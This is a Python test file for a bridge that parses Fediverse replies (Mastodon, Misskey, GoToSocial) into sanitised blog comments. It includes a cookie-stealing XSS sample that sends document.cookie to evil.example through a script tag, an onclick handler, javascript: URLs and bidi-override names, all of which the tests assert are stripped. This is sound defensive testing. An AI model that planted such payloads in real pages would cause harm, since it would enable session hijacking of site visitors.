"""Reading remote notes and actors the way Mastodon, Misskey and GoToSocial send them."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from typing import Any

import pytest

from bridge.backfeed.comments import (
    Attachment,
    Author,
    PollOption,
    Tag,
    author_from_actor,
    comment_html,
    is_public,
    linked_urls,
    mentions_of,
    note_text,
    parse_note,
)
from bridge.backfeed.sanitize import LINK_REL
from bridge.errors import ActivityIgnored
from tests.fakes.remote_notes import (
    BLOG_ACTOR,
    BLOG_PROFILE,
    POST_OBJECT,
    POST_URL,
    PUBLIC,
    SEBASTIAN,
    TIMO,
    TIMO_LINK,
    gotosocial_note,
    mastodon_actor,
    mastodon_create,
    mastodon_link,
    mastodon_mention,
    misskey_actor,
    misskey_note,
    talkabout_reply,
)

KEIL = "https://social.keil.example/users/sebastiankeil"


def test_row_1_a_mastodon_reply_becomes_a_comment_by_sebastian_keil() -> None:
    create = talkabout_reply("social.keil.example", "sebastiankeil", "103", SEBASTIAN)
    note = parse_note(create["object"])
    assert note.object_id == f"{KEIL}/statuses/103"
    assert note.type == "Note"
    assert note.attributed_to == KEIL
    assert note.in_reply_to == POST_OBJECT
    assert note.url == "https://social.keil.example/@sebastiankeil/103"
    assert note.published == datetime(2010, 2, 21, 18, 2, 11, tzinfo=UTC)
    assert note.language == "de"
    assert note.to == (PUBLIC,)
    assert note.cc == (f"{KEIL}/followers", BLOG_ACTOR)
    assert note.tags == (Tag("Mention", "@talkabout@bridge.example", BLOG_ACTOR),)
    assert note.replies == f"{KEIL}/statuses/103/replies"
    assert note.summary is None and not note.sensitive
    assert is_public(note)
    assert mentions_of(note, {BLOG_ACTOR})
    assert not mentions_of(note, {"https://bridge.example/users/other"})
    assert comment_html(note) == (
        f'<p><span class="h-card"><a href="{BLOG_PROFILE}" class="u-url mention" '
        f'rel="{LINK_REL}">@<span>talkabout</span></a></span> Natürlich hätten wir dich schon '
        "Freitag gern dabei gehabt, aber wie schon gesagt, du bist für den kommenden "
        "Mittagstisch sehr willkommen. Ich hoffe, ich hab deinen Post in deinen Augen korrekt "
        "zusammen gefasst.<br>Die Idee, teilhaben und teilnehmen lassen als immanente "
        "Grundbausteine von Social Media zu definieren, finde ich ein gutes Modell.</p>"
    )
    assert note_text(note).startswith("@talkabout Natürlich hätten wir dich")
    author = author_from_actor(
        mastodon_actor("social.keil.example", "sebastiankeil", "Sebastian Keil")
    )
    assert author == Author(
        actor_id=KEIL,
        name="Sebastian Keil",
        handle="@sebastiankeil@social.keil.example",
        profile_url="https://social.keil.example/@sebastiankeil",
        avatar_url=(
            "https://files.social.keil.example/accounts/avatars/000/000/001/original/avatar.png"
        ),
        published=datetime(2012, 3, 1, tzinfo=UTC),
    )


def test_row_4_keeps_link_and_paragraphs_and_drops_script_and_onclick() -> None:
    hostile = (
        f" (siehe u.a. {mastodon_link(TIMO_LINK).replace('<a ', '<a onclick=steal() ')} ;) ..)"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
    )
    create = talkabout_reply("timo.example", "timo", "7", TIMO, extra=hostile)
    html = comment_html(parse_note(create["object"]))
    assert f'<a href="{TIMO_LINK}" rel="{LINK_REL}">' in html
    assert html.count("<p>") == html.count("</p>") == 3
    assert "sehr schöner Post" in html and "Zwei Beispiele" in html
    for gone in ("script", "onclick", "steal", "evil.example", "document.cookie"):
        assert gone not in html


def test_misskey_note_uses_content_html_and_keeps_quote_and_emoji() -> None:
    note = parse_note(misskey_note("Danke hierfür.", html_content="<p>Danke <b>hierfür</b>.</p>"))
    assert note.content_html == "<p>Danke <b>hierfür</b>.</p>"
    assert note.quote_url == "https://misskey.example/notes/9tq0quoted"
    assert note.published == datetime(2024, 5, 1, 12, tzinfo=UTC)
    assert Tag("Emoji", ":blobcat:", "https://misskey.example/files/blobcat.png") in note.tags
    assert note.attachments == (
        Attachment(
            url="https://misskey.example/files/webpublic-0c9e.webp",
            kind="image",
            media_type="image/webp",
        ),
    )
    assert comment_html(note) == (
        "<p>Danke <b>hierfür</b>.</p>"
        f'<p>RE: <a href="https://misskey.example/notes/9tq0quoted" rel="{LINK_REL}">'
        "https://misskey.example/notes/9tq0quoted</a></p>"
        f'<p><a href="https://misskey.example/files/webpublic-0c9e.webp" rel="{LINK_REL}">'
        "image</a></p>"
    )


def test_misskey_note_without_content_falls_back_to_its_source_as_text() -> None:
    note = parse_note(misskey_note("**fett** <script>x</script>\n\nzwei", html_content=None))
    assert note.content_html == (
        "<p>@talkabout@bridge.example **fett** &lt;script&gt;x&lt;/script&gt;</p><p>zwei</p>"
    )
    assert "<script" not in comment_html(note)


def test_misskey_actor_keeps_emoji_shortcode_in_the_name() -> None:
    author = author_from_actor(misskey_actor())
    assert author.name == "Maurice Morell :blobcat:"
    assert author.handle == "@mauricemorell@misskey.example"
    assert author.profile_url == "https://misskey.example/@mauricemorell"
    assert author.avatar_url == "https://misskey.example/files/avatar-9tq0.webp"


def test_gotosocial_single_values_and_content_map() -> None:
    note = parse_note(gotosocial_note("<p>Habe mir eben erstmal den Podcast angehört.</p>"))
    assert note.content_html == "<p>Habe mir eben erstmal den Podcast angehört.</p>"
    assert note.language == "de"
    assert note.to == (PUBLIC,)
    assert note.cc == ("https://gts.example/users/david_philippe/followers",)
    assert note.in_reply_to == POST_OBJECT
    assert note.summary is None  # GoToSocial writes "" for no warning
    assert note.replies == "https://gts.example/users/david_philippe/statuses/01HXYZABCD/replies"
    assert mentions_of(note, [BLOG_ACTOR])
    (attachment,) = note.attachments
    assert attachment.kind == "image"
    assert attachment.description == "Ein Foto des Podcast-Mikrofons auf dem Schreibtisch"
    assert comment_html(note).endswith(
        f'<p><a href="{attachment.url}" rel="{LINK_REL}">'
        "image: Ein Foto des Podcast-Mikrofons auf dem Schreibtisch</a></p>"
    )


def test_content_warning_leads_and_sensitive_media_is_labelled() -> None:
    create = mastodon_create(
        "m.example",
        "a",
        "1",
        "<p>Spoiler</p>",
        summary="Podcast <Folge> 3",
        attachment=[
            {
                "type": "Document",
                "mediaType": "video/mp4",
                "url": "https://m.example/v.mp4",
                "name": "Ein \u202eVideo\nmit Zeilen",
            }
        ],
    )
    note = parse_note(create["object"])
    assert note.summary == "Podcast <Folge> 3"
    assert note.sensitive
    assert comment_html(note) == (
        "<p><strong>CW: Podcast &lt;Folge&gt; 3</strong></p><p>Spoiler</p>"
        f'<p><a href="https://m.example/v.mp4" rel="{LINK_REL}">'
        "sensitive video: Ein Video mit Zeilen</a></p>"
    )


def test_a_mastodon_poll_lists_its_answers() -> None:
    create = mastodon_create(
        "m.example",
        "a",
        "2",
        "<p>Dialog: Pflicht oder Kür?</p>",
        kind="Question",
        extra={
            "endTime": "2010-02-28T00:00:00Z",
            "votersCount": 7,
            "oneOf": [
                {
                    "type": "Note",
                    "name": "Pflicht",
                    "replies": {"type": "Collection", "totalItems": 2},
                },
                {"type": "Note", "name": "Kür", "replies": {"type": "Collection", "totalItems": 5}},
                {"type": "Note", "name": "<b>weiß nicht</b>"},
                "garbage",
            ],
        },
    )
    note = parse_note(create["object"])
    assert note.type == "Question"
    assert note.poll_options == (
        PollOption("Pflicht", 2),
        PollOption("Kür", 5),
        PollOption("<b>weiß nicht</b>", None),
    )
    assert comment_html(note) == (
        "<p>Dialog: Pflicht oder Kür?</p><ul><li>Pflicht (2)</li><li>Kür (5)</li>"
        "<li>&lt;b&gt;weiß nicht&lt;/b&gt;</li></ul>"
    )
    assert note_text(note) == "Dialog: Pflicht oder Kür? Pflicht Kür <b>weiß nicht</b>"


def test_a_misskey_multiple_choice_poll() -> None:
    obj = {
        "id": "https://misskey.example/notes/poll1",
        "type": "Question",
        "content": "<p>Welche?</p>",
        "anyOf": [{"type": "Note", "name": "A", "replies": {"totalItems": 1}}],
        "_misskey_content": "Welche?",
    }
    assert parse_note(obj).poll_options == (PollOption("A", 1),)


def test_an_article_shows_its_title_and_its_summary_is_no_warning() -> None:
    obj = {
        "id": "https://blog.example/wp/?p=9",
        "type": "Article",
        "name": "Antwort &amp; Gegenrede",
        "summary": "Ein Auszug des Artikels …",
        "content": "<p>Volltext</p>",
        "attributedTo": "https://blog.example/wp/author/mirko",
    }
    note = parse_note(obj)
    assert note.name == "Antwort & Gegenrede"
    assert note.summary is None
    assert comment_html(note) == "<p><strong>Antwort &amp; Gegenrede</strong></p><p>Volltext</p>"


def test_followers_only_and_direct_notes_are_not_public() -> None:
    followers = mastodon_create(
        "m.example",
        "a",
        "3",
        "<p>x</p>",
        to=["https://m.example/users/a/followers"],
        cc=[BLOG_ACTOR],
    )
    direct = mastodon_create("m.example", "a", "4", "<p>x</p>", to=[BLOG_ACTOR], cc=[])
    unlisted = mastodon_create(
        "m.example",
        "a",
        "5",
        "<p>x</p>",
        to=["https://m.example/users/a/followers"],
        cc=["as:Public"],
    )
    assert not is_public(parse_note(followers["object"]))
    assert not is_public(parse_note(direct["object"]))
    assert is_public(parse_note(unlisted["object"]))
    assert parse_note(unlisted["object"]).cc == (PUBLIC,)


def test_linked_urls_finds_post_links_but_not_mentions_or_hashtags() -> None:
    content = (
        f"<p>{mastodon_mention(BLOG_PROFILE, 'talkabout')} Lest das: {mastodon_link(POST_URL)} "
        '<a href="https://m.example/tags/dialog" class="mention hashtag" rel="tag">#dialog</a> '
        '<a href="/relative/page">rel</a> <a href="javascript:alert(1)">bad</a> '
        f'<a href="{POST_URL}">nochmal</a></p>'
    )
    create = mastodon_create(
        "m.example",
        "a",
        "6",
        content,
        in_reply_to=None,
        tags=[
            {"type": "Mention", "href": BLOG_ACTOR, "name": "@talkabout@bridge.example"},
            {"type": "Hashtag", "href": "https://m.example/tags/dialog", "name": "#dialog"},
        ],
        attachment=[
            {"type": "Link", "href": "https://other.example/page", "mediaType": "text/html"}
        ],
        extra={"quoteUrl": "https://m.example/users/a/statuses/1"},
    )
    note = parse_note(create["object"])
    assert note.in_reply_to is None
    assert Tag("Hashtag", "#dialog", "https://m.example/tags/dialog") in note.tags
    assert linked_urls(note) == [
        POST_URL,
        "https://m.example/relative/page",
        "https://m.example/users/a/statuses/1",
        "https://other.example/page",
    ]


def test_robust_against_every_shape_a_value_can_take() -> None:
    obj: dict[str, Any] = {
        "id": "https://peertube.example/videos/watch/1/comment/2",
        "type": ["Note", "https://example.org/ns#Thing"],
        "attributedTo": [
            {"type": "Group", "id": "https://peertube.example/video-channels/ch"},
            {"type": "Person", "id": "https://peertube.example/accounts/alice"},
        ],
        "url": [
            {
                "type": "Link",
                "mediaType": "application/activity+json",
                "href": "https://peertube.example/a",
            },
            {"type": "Link", "mediaType": "text/html", "href": "https://peertube.example/w/1"},
        ],
        "inReplyTo": [{"id": POST_OBJECT}],
        "to": {"id": PUBLIC},
        "cc": [None, 5, {"no": "id"}, "not a url", "https://peertube.example/followers"],
        "tag": {"type": "Mention", "href": {"id": BLOG_ACTOR}},
        "attachment": [
            None,
            3,
            {"type": "PropertyValue", "name": "x", "value": "y"},
            "https://f.example/file.pdf",
        ],
        "content": None,
        "contentMap": {"en": "<p>hello</p>", "": "<p>empty key</p>"},
        "sensitive": "yes",
        "published": "not a date",
        "updated": "2024-05-01T12:00:00+02:00",
        "context": {"id": "https://peertube.example/contexts/1", "type": "Collection"},
        "summary": 42,
        "replies": 7,
    }
    note = parse_note(obj)
    assert note.type == "Note"
    assert note.attributed_to == "https://peertube.example/accounts/alice"
    assert note.url == "https://peertube.example/w/1"
    assert note.in_reply_to == POST_OBJECT
    assert note.to == (PUBLIC,)
    assert note.cc == ("https://peertube.example/followers",)
    assert note.tags == (Tag("Mention", BLOG_ACTOR, BLOG_ACTOR),)
    assert note.attachments == (Attachment("https://f.example/file.pdf", "link"),)
    assert note.content_html == "<p>hello</p>"
    assert note.language == "en"
    assert not note.sensitive
    assert note.published is None
    assert note.updated == datetime(2024, 5, 1, 10, tzinfo=UTC)
    assert note.context == "https://peertube.example/contexts/1"
    assert note.summary is None and note.replies is None
    assert comment_html(note).startswith("<p>hello</p>")


def test_an_empty_note_is_an_empty_comment_not_an_error() -> None:
    note = parse_note({"id": "https://m.example/n/1", "type": "Note"})
    assert note.content_html == "" and comment_html(note) == "" and note_text(note) == ""
    assert note.to == () and not is_public(note)


@pytest.mark.parametrize(
    "obj",
    [
        {"id": "https://m.example/n/1", "type": "Person"},
        {"id": "https://m.example/n/1"},
        {"type": "Note"},
        {"type": "Note", "id": "urn:uuid:1"},
        {"type": "Note", "id": "javascript:alert(1)"},
        {"type": "Note", "id": "https://m.example/n/1 2"},
        {"type": "Note", "id": ["https://m.example/n/1"]},
    ],
)
def test_objects_that_are_no_usable_note_are_ignored(obj: dict[str, Any]) -> None:
    with pytest.raises(ActivityIgnored):
        parse_note(obj)


def test_relative_links_in_content_resolve_against_the_note_url() -> None:
    create = mastodon_create("m.example", "a", "8", '<p><a href="/about">about</a></p>')
    assert comment_html(parse_note(create["object"])) == (
        f'<p><a href="https://m.example/about" rel="{LINK_REL}">about</a></p>'
    )


def test_author_names_are_plain_and_cannot_flip_the_page() -> None:
    doc = mastodon_actor("m.example", "jens", "\u202eJens &amp; <i>Nirschl</i>\u2066")
    assert author_from_actor(doc).name == "Jens & Nirschl"


def test_author_without_name_or_username_falls_back_sensibly() -> None:
    doc = {
        "id": "https://xn--bcher-kva.example/users/anna/",
        "type": "Person",
        "name": "\u3164",
        "url": [
            {
                "type": "Link",
                "href": "https://xn--bcher-kva.example/@anna",
                "mediaType": "text/html",
            }
        ],
        "icon": [{"type": "Image", "url": {"type": "Link", "href": "https://cdn.example/a.png"}}],
    }
    author = author_from_actor(doc)
    assert author.name == "anna"
    assert author.handle == "@anna@xn--bcher-kva.example"
    assert author.profile_url == "https://xn--bcher-kva.example/@anna"
    assert author.avatar_url == "https://cdn.example/a.png"
    assert author.published is None


def test_author_profile_defaults_to_the_actor_id() -> None:
    author = author_from_actor({"id": "https://m.example/u/x", "preferredUsername": "x y@z"})
    assert author.profile_url == "https://m.example/u/x"
    assert author.handle == "@xyz@m.example"
    assert author.avatar_url is None


def test_an_actor_without_id_is_ignored() -> None:
    with pytest.raises(ActivityIgnored):
        author_from_actor({"type": "Person", "preferredUsername": "x"})


def test_oversized_lists_are_capped_without_reading_them_all() -> None:
    mention = {"type": "Mention", "href": BLOG_ACTOR, "name": "@t"}
    image = {"type": "Image", "url": "https://m.example/i.png"}
    obj = {
        "id": "https://m.example/n/1",
        "type": "Question",
        "content": "<p>x</p>",
        "tag": [mention] * 500_000,
        "attachment": [image] * 500_000,
        "to": ["https://m.example/users/a/followers"] * 500_000,
        "oneOf": [{"name": "A"}] * 500_000,
    }
    started = time.perf_counter()
    note = parse_note(obj)
    assert time.perf_counter() - started < 0.5
    assert (len(note.tags), len(note.attachments), len(note.poll_options)) == (200, 16, 50)
    assert note.to == ("https://m.example/users/a/followers",)
